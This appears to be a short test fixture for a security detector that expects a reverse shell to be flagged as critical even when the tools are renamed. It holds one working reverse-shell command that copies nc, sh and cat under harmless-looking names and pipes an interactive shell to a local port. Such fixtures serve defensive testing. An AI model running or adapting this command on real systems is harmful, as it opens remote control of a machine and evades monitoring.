# about: the same with the tools under other names
# expect: reverse_shell critical
# needs: python3 nc
peer 4406
cp "$(command -v nc)" ./updater; cp /bin/sh ./worker; cp /bin/cat ./reader; mkfifo f; (./reader f | ./worker -i 2>&1 | ./updater -w 3 127.0.0.1 4406 >f) || true
done_typing
